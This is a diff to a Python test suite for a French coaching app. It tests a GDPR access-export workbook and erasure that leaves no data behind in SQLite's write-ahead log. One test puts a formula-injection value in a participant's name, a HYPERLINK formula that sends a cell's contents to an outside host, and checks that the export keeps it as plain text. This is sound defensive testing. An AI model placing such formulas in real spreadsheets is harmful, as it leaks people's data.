@@ -12,6 +12,7 @@ from sqlalchemy import func, select
 
 from coachdesk.db import open_database
 from coachdesk.errors import UserError
+from coachdesk.exports.access import write_access_workbook
 from coachdesk.models import AuditEvent, Contract, FollowUpVisit, Outreach, Participant
 from coachdesk.services import gdpr
 from coachdesk.services import recording as rec
@@ -133,9 +134,10 @@ def test_access_workbook_holds_everything_about_one_person(tmp_path: Path, demo)
         ).one()
     out = tmp_path / "acces.xlsx"
     with demo.write() as session:
-        records = gdpr.write_access_workbook(session, person.id, out)
+        records = write_access_workbook(session, person.id, out)
     assert records > 5
-    assert not (tmp_path / "acces.xlsx.partiel").exists()
+    assert [p.name for p in tmp_path.iterdir() if p.name != "demo.sqlite3" and
+            not p.name.startswith("demo.sqlite3-")] == ["acces.xlsx"]
     book = openpyxl.load_workbook(out)
     assert book.sheetnames[0] == "Personne"
     assert {"Prises de contact", "Contrats", "Visites de suivi", "Sorties"} <= set(book.sheetnames)
@@ -165,3 +167,50 @@ def test_missing_consent_is_listed(tmp_path: Path) -> None:
         missing = gdpr.missing_consent(session)
     db.dispose()
     assert [m.participant_id for m in missing] == [ids[0], ids[2]]
+
+
+def test_access_workbook_keeps_hostile_text_as_text_and_logs_only_the_id(
+    tmp_path: Path, demo
+) -> None:
+    """Case 6 and 7 of the trust issue: a name typed as a formula stays text, a note with a
+    control character is written (not a crash), and the audit log names no file."""
+    with demo.write() as session:
+        person = session.execute(select(Participant).limit(1)).scalar_one()
+        person.last_name = '=HYPERLINK("http://example.org/?x="&A1,"Cliquez")'
+        person.notes = "appelée le 12\x07 puis\x1b relancée"
+        person_id = person.id
+    out = tmp_path / "acces-Dupont-Marie.xlsx"
+    with demo.write() as session:
+        write_access_workbook(session, person_id, out)
+    book = openpyxl.load_workbook(out)
+    identity = {row[0]: row[1] for row in book["Personne"].iter_rows(min_row=2, values_only=True)}
+    assert identity["Nom"] == '=HYPERLINK("http://example.org/?x="&A1,"Cliquez")'
+    nom = next(row for row in book["Personne"].iter_rows(min_row=2) if row[0].value == "Nom")
+    assert nom[1].data_type == "s"  # text, not a formula
+    # Written with Excel's own escapes of control characters, which Excel decodes on opening.
+    notes = identity["Notes"].replace("_x0007_", "\x07").replace("_x001B_", "\x1b")
+    assert notes == "appelée le 12\x07 puis\x1b relancée"
+    with demo.read() as session:
+        detail = session.execute(
+            select(AuditEvent.detail).where(AuditEvent.action == "access_export")
+        ).scalar_one()
+    assert person_id in detail
+    assert "Dupont" not in detail and "acces-" not in detail and ".xlsx" not in detail
+
+
+def test_erasure_leaves_nothing_in_the_write_ahead_log(tmp_path: Path) -> None:
+    """Case 7: after an erasure the person's name and phone are in neither the file nor its
+    -wal (checkpointed and emptied), while another connection keeps the database open."""
+    path = tmp_path / "base.sqlite3"
+    db = open_database(path)
+    (person,) = add_people(db, 1, last_name="Walfantome")
+    with db.write() as session:
+        row = session.get(Participant, person)
+        row.last_name, row.phone = "Canarywal", "06 98 76 54 32"
+    wal = path.with_name(path.name + "-wal")
+    assert b"Canarywal" in wal.read_bytes()
+    gdpr.erase_for_good(db, person)
+    for part in (path, wal):
+        data = part.read_bytes() if part.exists() else b""
+        assert b"Canarywal" not in data and b"06 98 76 54 32" not in data, part.name
+    db.dispose()
